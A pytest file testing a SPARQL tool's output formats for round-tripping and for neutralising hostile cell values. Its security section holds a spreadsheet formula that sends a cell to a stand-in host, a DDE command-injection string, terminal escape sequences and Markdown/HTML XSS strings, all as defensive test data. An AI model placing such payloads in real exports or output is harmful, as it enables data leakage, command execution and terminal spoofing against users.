"""formats: every format writes what its standard says and reads back to the same answer."""

from __future__ import annotations

import csv
import io
import json

import pyoxigraph as ox
import pytest
from conftest import MINI, QUERIES

from csrgraph import run_query
from csrgraph.errors import UsageError
from csrgraph.formats import (
    REGISTRY,
    Record,
    Report,
    Table,
    graph_formats,
    render,
    result_formats,
    row_formats,
    serialize,
)
from csrgraph.sparql import QueryResult

XSD = "http://www.w3.org/2001/XMLSchema#"


@pytest.fixture(scope="module")
def rows() -> QueryResult:
    """A SELECT result with an IRI, a language-tagged literal, a typed literal, a blank node,
    a plain string with awkward characters, and an unbound cell."""
    return QueryResult(
        "select",
        variables=["iri", "label", "number", "blank", "text", "unbound"],
        rows=[
            (
                ox.NamedNode("http://example.org/mini#a"),
                ox.Literal("Kundendienst", language="de"),
                ox.Literal("15.81", datatype=ox.NamedNode(XSD + "decimal")),
                ox.BlankNode("b0"),
                ox.Literal('a, "b" | c\nd\te <&>'),
                None,
            )
        ],
        prefixes={"ex": "http://example.org/mini#"},
    )


@pytest.fixture(scope="module")
def graph() -> QueryResult:
    return run_query(str(QUERIES / "construct-things.rq"), data=MINI)


def test_registry_splits_into_row_and_graph_formats() -> None:
    assert row_formats() == ["table", "csv", "tsv", "json", "xml", "md"]
    assert graph_formats() == ["xml", "ttl", "nt", "jsonld", "trig"]
    assert result_formats() == [name for name in REGISTRY if name != "text"]
    assert set(REGISTRY) == set(row_formats()) | set(graph_formats()) | {"text"}


@pytest.mark.parametrize(
    ("name", "results_format"),
    [
        ("json", ox.QueryResultsFormat.JSON),
        ("xml", ox.QueryResultsFormat.XML),
        ("tsv", ox.QueryResultsFormat.TSV),
    ],
)
def test_standard_result_formats_read_back_identically(
    rows: QueryResult, name: str, results_format: ox.QueryResultsFormat
) -> None:
    parsed = ox.parse_query_results(serialize(rows, name), results_format)
    assert [v.value for v in parsed.variables] == rows.variables
    back = [tuple(solution[v] for v in rows.variables) for solution in parsed]
    assert [tuple(map(str, [t for t in r if not isinstance(t, ox.BlankNode)])) for r in back] == [
        tuple(map(str, [t for t in r if not isinstance(t, ox.BlankNode)])) for r in rows.rows
    ]
    assert isinstance(back[0][3], ox.BlankNode)


def test_csv_is_plain_values_with_crlf(rows: QueryResult) -> None:
    data = serialize(rows, "csv").decode()
    assert data.count("\r\n") == 2  # after the header and the row; the cell's \n is quoted
    read = list(csv.reader(io.StringIO(data, newline="")))
    assert read[0] == rows.variables
    assert read[1] == [
        "http://example.org/mini#a",
        "Kundendienst",
        "15.81",
        "_:b0",
        'a, "b" | c\nd\te <&>',
        "",
    ]


def test_table_and_markdown_for_people(rows: QueryResult) -> None:
    table = serialize(rows, "table").decode().splitlines()
    assert table[0].split() == rows.variables
    assert table[2].split()[:4] == ["ex:a", "Kundendienst", "15.81", "_:b0"]
    assert len(table) == 4  # the newline inside a cell does not break the table
    assert table[-1] == "(1 row)"
    markdown = serialize(rows, "md").decode().splitlines()
    assert markdown[0] == "| iri | label | number | blank | text | unbound |"
    # line breaks and tabs in a cell are spaces, as in the table
    assert markdown[2] == '| ex:a | Kundendienst | 15.81 | \\_:b0 | a, "b" \\| c d e \\<\\&\\> |  |'


@pytest.mark.parametrize("name", ["table", "csv", "tsv", "json", "xml", "md"])
def test_ask_in_every_row_format(name: str) -> None:
    yes = serialize(QueryResult("ask", boolean=True), name).decode()
    no = serialize(QueryResult("ask", boolean=False), name).decode()
    assert "true" in yes and "false" in no
    if name in ("json", "xml", "tsv"):
        fmt = {"json": "JSON", "xml": "XML", "tsv": "TSV"}[name]
        assert bool(ox.parse_query_results(yes, getattr(ox.QueryResultsFormat, fmt))) is True


@pytest.mark.parametrize(
    ("name", "rdf_format"),
    [
        ("ttl", ox.RdfFormat.TURTLE),
        ("nt", ox.RdfFormat.N_TRIPLES),
        ("xml", ox.RdfFormat.RDF_XML),
        ("trig", ox.RdfFormat.TRIG),
        ("jsonld", ox.RdfFormat.JSON_LD),
    ],
)
def test_graph_formats_read_back_identically(
    graph: QueryResult, name: str, rdf_format: ox.RdfFormat
) -> None:
    assert len(graph.triples) == 2
    data = serialize(graph, name)
    back = {str(q.triple) for q in ox.parse(data, rdf_format)}  # no network: inline context
    assert back == {str(t) for t in graph.triples}


def test_jsonld_uses_a_compact_inline_context(graph: QueryResult) -> None:
    payload = json.loads(serialize(graph, "jsonld"))
    assert isinstance(payload["@context"], dict)
    ids = {node["@id"] for node in payload["@graph"]}
    assert ids == {"ex:a"}


def test_turtle_uses_the_prefixes(graph: QueryResult) -> None:
    assert b"ex:a" in serialize(graph, "ttl")


def test_wrong_kind_of_format_is_a_usage_error(rows: QueryResult, graph: QueryResult) -> None:
    with pytest.raises(UsageError, match="format 'ttl' is for graphs"):
        serialize(rows, "ttl")
    with pytest.raises(UsageError, match="format 'csv' is for SELECT and ASK results"):
        serialize(graph, "csv")
    with pytest.raises(UsageError, match="unknown format 'yaml'"):
        serialize(rows, "yaml")


TABLE = Table(("name", "note"), [("a", "x|y"), ("bb", "z")])


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [
        ("table", "name  note\n----  ----\na     x|y\nbb    z\n(2 rows)\n"),
        ("csv", "name,note\r\na,x|y\r\nbb,z\r\n"),
        ("tsv", "name\tnote\na\tx|y\nbb\tz\n"),
        ("md", "| name | note |\n|---|---|\n| a | x\\|y |\n| bb | z |\n"),
    ],
)
def test_a_table_of_text_in_every_table_format(fmt: str, expected: str) -> None:
    assert render(TABLE, fmt).decode() == expected


def test_a_table_without_header_and_count_and_its_json() -> None:
    bare = Table(("label", "value"), [("k", "v"), ("longer", "")], header=False, count=False)
    assert render(bare, "table") == b"k       v\nlonger\n"
    assert json.loads(render(TABLE, "json")) == [
        {"name": "a", "note": "x|y"},
        {"name": "bb", "note": "z"},
    ]
    assert json.loads(render(Table(("a",), [], data={"n": 1}), "json")) == {"n": 1}


def test_a_report_as_text_and_json() -> None:
    report = Report([Record("A", [("quote (en)", "Hi.")]), Record("B")], data=[1, 2])
    assert render(report, "text") == b"A\n  quote (en): Hi.\nB\n"
    spaced = Report(report.records, spaced=True)
    assert render(spaced, "text") == b"A\n  quote (en): Hi.\n\nB\n"
    assert json.loads(render(report, "json")) == [1, 2]
    with pytest.raises(UsageError, match="format 'table' cannot write a report"):
        render(report, "table")
    with pytest.raises(UsageError, match="format 'text' cannot write a table"):
        render(TABLE, "text")


def test_importing_formats_is_cheap() -> None:
    """The CLI imports this module for its --format choices: no engine, no XML helpers."""
    import subprocess
    import sys

    probe = (
        "import sys, csrgraph.formats; "
        "print(','.join(m for m in ('csrgraph.sparql', 'xml.sax.saxutils', 'pyoxigraph', 'csv') "
        "if m in sys.modules))"
    )
    loaded = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, check=True
    )
    assert loaded.stdout.strip() == ""


# ---------------------------------------------------------------------------------------
# Output a spreadsheet or a terminal would interpret (issue 18, item 6)
# ---------------------------------------------------------------------------------------

#: Cells a spreadsheet would run: each must come out of csv and tsv with a leading quote.
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "-inf",
]
#: Numbers a spreadsheet reads as numbers: left as they are.
NUMBERS = ["-5", "+1.5", "-0.25", "-2.5e3", "+.5"]
#: Text a terminal would act on, and what ``table``, ``md`` and ``text`` show instead.
TERMINAL = {
    "\x1b]0;owned\x07": "\\x1b]0;owned\\x07",  # window title
    "\x1b[2J\x1b[H": "\\x1b[2J\\x1b[H",  # clear the screen
    "a\x9b31mb": "a\\x9b31mb",  # C1 control sequence introducer
    "x\x7fy\x00z": "x\\x7fy\\x00z",
    "abc\u202edef\u2066": "abc\\u202edef\\u2066",  # bidi override and isolate
    "two\nlines\rback": "two lines back",
}


def _select(values: list[str]) -> QueryResult:
    """A one-column SELECT result with one plain literal a row."""
    return QueryResult("select", ["v"], [(ox.Literal(v),) for v in values])


def test_csv_and_tsv_quote_formula_cells_and_keep_numbers() -> None:
    assert len(FORMULAS) == 8 and len(NUMBERS) == 5
    result = _select(FORMULAS + NUMBERS)
    cells = [row[0] for row in csv.reader(io.StringIO(serialize(result, "csv").decode()))][1:]
    assert cells == ["'" + v for v in FORMULAS] + NUMBERS
    tsv = serialize(result, "tsv").decode().split("\n")[1:-1]
    assert tsv == [str(ox.Literal("'" + v)) for v in FORMULAS] + [f'"{v}"' for v in NUMBERS]
    table = Table(["v"], [[v] for v in FORMULAS + NUMBERS])
    table_cells = [r[0] for r in csv.reader(io.StringIO(render(table, "csv").decode()))][1:]
    assert table_cells == ["'" + v for v in FORMULAS] + NUMBERS
    flat = [v.replace("\t", " ").replace("\r", " ") for v in FORMULAS]
    assert (
        render(table, "tsv").decode().split("\n")[1:-1]
        == ["'" + v for v in flat] + NUMBERS  # " =1+1" too: a spreadsheet may skip the space
    )


def test_raw_cells_keep_every_cell_as_it_is() -> None:
    result = _select(FORMULAS)
    cells = [
        r[0] for r in csv.reader(io.StringIO(serialize(result, "csv", raw_cells=True).decode()))
    ]
    assert cells[1:] == FORMULAS
    assert serialize(result, "tsv", raw_cells=True).decode().split("\n")[1:-1] == [
        str(ox.Literal(v)) for v in FORMULAS
    ]
    table = Table(["v"], [[FORMULAS[0]]])
    assert render(table, "csv", raw_cells=True) == render(table, "csv").replace(b"'=", b"=")


def test_language_and_datatype_survive_the_quote() -> None:
    result = QueryResult(
        "select",
        ["v"],
        [
            (ox.Literal("=1", language="de"),),
            (ox.Literal("=1", datatype=ox.NamedNode(XSD + "token")),),
        ],
    )
    assert serialize(result, "tsv").decode().split("\n")[1:-1] == [
        '"\'=1"@de',
        f'"\'=1"^^<{XSD}token>',
    ]


@pytest.mark.parametrize("name", ["table", "md"])
def test_terminal_formats_show_control_characters_escaped(name: str) -> None:
    assert len(TERMINAL) == 6
    result = _select(list(TERMINAL))
    for item in (result, Table(["v"], [[v] for v in TERMINAL])):
        text = render(item, name).decode()
        for shown in TERMINAL.values():
            # in Markdown, the brackets of an escape sequence are escaped too (not a link)
            assert (
                shown.replace("[", "\\[").replace("]", "\\]") if name == "md" else shown
            ) in text
        assert not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 for c in text)
        assert "\u202e" not in text and "\u2066" not in text
        assert len(text.splitlines()) == len(TERMINAL) + 2 + (name == "table")


def test_text_reports_show_control_characters_escaped() -> None:
    report = Report([Record(title, [(title, title)]) for title in TERMINAL])
    lines = render(report, "text").decode().splitlines()
    assert len(lines) == 2 * len(TERMINAL)
    for shown in TERMINAL.values():
        assert shown in lines and f"  {shown}: {shown}" in lines


@pytest.mark.parametrize("name", ["json", "xml"])
def test_data_formats_stay_exact(name: str) -> None:
    values = FORMULAS + list(TERMINAL)
    if name == "xml":  # XML 1.0 has no form for most C0 controls, and reads CR as LF
        values = [v for v in values if not any(ord(c) < 0x20 and c != "\n" for c in v)]
    text = serialize(_select(values), name).decode()
    if name == "json":
        got = [b["v"]["value"] for b in json.loads(text)["results"]["bindings"]]
    else:
        import xml.etree.ElementTree as ET

        ns = "{http://www.w3.org/2005/sparql-results#}"
        got = [e.text or "" for e in ET.fromstring(text.encode()).iter(f"{ns}literal")]
    assert got == values
    data = render(Table(["v"], [[v] for v in values]), "json").decode()
    assert [row["v"] for row in json.loads(data)] == values


def test_the_cli_neutralises_csv_and_table_and_keeps_raw_on_request() -> None:
    from click.testing import CliRunner

    from csrgraph.cli import main

    query = (
        'SELECT ?v WHERE { VALUES ?v { "=HYPERLINK(\\"http://127.0.0.1:9/\\",\\"x\\")" '
        '"\\u001b]0;owned\\u0007\\u001b[2J" "-5" } }'
    )
    runner = CliRunner()

    def run(*args: str) -> bytes:
        result = runner.invoke(main, ["query", "-e", query, *args])
        assert result.exit_code == 0, result.output
        return result.stdout_bytes

    rows = list(csv.reader(io.StringIO(run("-f", "csv").decode())))
    assert [r[0] for r in rows] == [
        "v",
        '\'=HYPERLINK("http://127.0.0.1:9/","x")',
        "\x1b]0;owned\x07\x1b[2J",
        "-5",
    ]
    raw = list(csv.reader(io.StringIO(run("-f", "csv", "--raw-cells").decode())))
    assert raw[1][0] == '=HYPERLINK("http://127.0.0.1:9/","x")'
    table = run("-f", "table")
    assert b"\x1b" not in table and b"\x07" not in table
    assert b"\\x1b]0;owned\\x07\\x1b[2J" in table


@pytest.mark.parametrize(
    "cell", ["\n=1+1", "\x00=1+1", "\ufeff=1+1", "\u00a0@SUM(A1)", "\u202e-2+3"]
)
def test_a_formula_behind_invisible_characters_is_quoted(cell: str) -> None:
    """A spreadsheet may skip white space and invisible characters before the formula."""
    from csrgraph.formats.neutral import spreadsheet_cell

    assert spreadsheet_cell(cell) == "'" + cell
    assert spreadsheet_cell(cell, raw=True) == cell


#: Values a Markdown renderer would run or read as markup if a cell held them as they are.
HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a | b",
    "line one\nline two",
    "[click](javascript:alert(1))",
    "![x](https://example.org/x.png)",
    "`code` *em* _em_ ~~gone~~ $x$",
    "&lt;b&gt; \\| \\",
    "<https://example.org/>",
    "__strong__ snake_case _:b0 x_",
]


@pytest.mark.parametrize("kind", ["rows", "table"])
def test_markdown_cells_render_as_their_text(kind: str) -> None:
    """Hostile values through the real writer, rendered by a CommonMark/GFM renderer: one
    row per value, one cell per column, no HTML element but the table's, the text as given."""
    from html.parser import HTMLParser

    from markdown_it import MarkdownIt

    assert len(HOSTILE_MARKDOWN) == 10
    values = HOSTILE_MARKDOWN
    if kind == "rows":
        text = render(_select(values), "md").decode()
    else:
        text = render(Table(["v", "w"], [[v, "x"] for v in values]), "md").decode()
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)

    class Cells(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: set[str] = set()
            self.rows: list[list[str]] = []
            self.open = False

        def handle_endtag(self, tag: str) -> None:
            self.open = self.open and tag != "td"

        def handle_starttag(self, tag: str, attrs: object) -> None:
            self.tags.add(tag)
            if tag == "tr":
                self.rows.append([])
            elif tag == "td":
                self.rows[-1].append("")
                self.open = True

        def handle_data(self, data: str) -> None:
            if self.open:
                self.rows[-1][-1] += data

    cells = Cells()
    cells.feed(html)
    assert cells.tags <= {"table", "thead", "tbody", "tr", "th", "td"}, html
    body = cells.rows[1:]
    assert len(body) == len(values), html
    shown = [row[0] for row in body]
    assert shown == [v.replace("\n", " ") for v in values]
    assert all(len(row) == (1 if kind == "rows" else 2) for row in body)
